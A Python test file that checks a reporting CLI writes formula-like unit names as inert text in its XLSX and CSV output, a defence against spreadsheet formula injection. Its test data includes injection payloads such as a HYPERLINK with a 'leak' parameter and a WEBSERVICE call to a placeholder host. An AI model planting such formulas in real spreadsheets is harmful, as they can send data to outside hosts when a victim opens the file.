"""Nothing a unit submits becomes active content in the workbook: every text cell is text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from reportkit.cli import main
from tests.conftest import MINIMAL_2007
from tests.hostile_runs import units

ACTIVE = [
    '=HYPERLINK("http://example.invalid/?leak=1","点此")',
    '=WEBSERVICE("http://example.invalid/")',
    "+1+2",
    "-3-4",
    "@SUM(A1:A9)",
    "=1+1",
    "#N/A",
]


@pytest.fixture
def book(tmp_path: Path) -> openpyxl.Workbook:
    """The workbook aggregate writes for units (and a 2007 category) with formula-like names."""
    data = units(*ACTIVE)(tmp_path)
    category = '=HYPERLINK("http://example.invalid/","分类")'
    path = data / "unit-0.yaml"
    text = path.read_text(encoding="utf-8").replace("名称: 其他信息", f"名称: '{category}'")
    path.write_text(text, encoding="utf-8")
    assert "名称: 其他信息" in MINIMAL_2007
    result = CliRunner().invoke(main, ["aggregate", str(data), "-o", str(tmp_path / "汇总")])
    assert result.exit_code == 0, result.output
    return openpyxl.load_workbook(tmp_path / "汇总.xlsx")


def test_formula_like_names_are_written_as_text(book: openpyxl.Workbook) -> None:
    """Every unit name that looks like a formula is a text cell holding exactly that name, marked
    quote-prefixed where a spreadsheet would take it for a formula — on the cover, the check
    sheet and the long table alike."""
    for title in ("说明", "校验结果", "明细"):
        sheet = book[title]
        cells = [c for row in sheet.iter_rows() for c in row if c.value in ACTIVE]
        assert {c.value for c in cells} == set(ACTIVE), title
        for cell in cells:
            assert cell.data_type == "s", (title, cell.value)
            assert cell.quotePrefix == (cell.value[0] in "=+-@"), (title, cell.value)


def test_no_cell_of_any_sheet_is_a_formula(book: openpyxl.Workbook) -> None:
    """No cell in the whole workbook is a formula or an error value; the category named like a
    formula is a text header."""
    kinds = {
        cell.data_type for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
    }
    assert "s" in kinds
    assert not kinds & {"f", "e"}  # formula, error value
    texts = {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
    assert '=HYPERLINK("http://example.invalid/","分类")' in texts


def test_csv_names_that_look_like_formulas_are_inert(tmp_path: Path) -> None:
    """In the long table's CSV a text beginning like a formula gets a leading apostrophe, so
    Excel shows it as text and never evaluates it."""
    data = units(*ACTIVE)(tmp_path)
    out = tmp_path / "汇总"
    result = CliRunner().invoke(main, ["aggregate", str(data), "-o", str(out), "--to", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(out.with_suffix(".csv").read_text(encoding="utf-8-sig"))))
    units_named = {row[0] for row in rows[1:]}
    for name in ACTIVE:
        expected = "'" + name if name[0] in "=+-@" else name
        assert expected in units_named, name
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row)
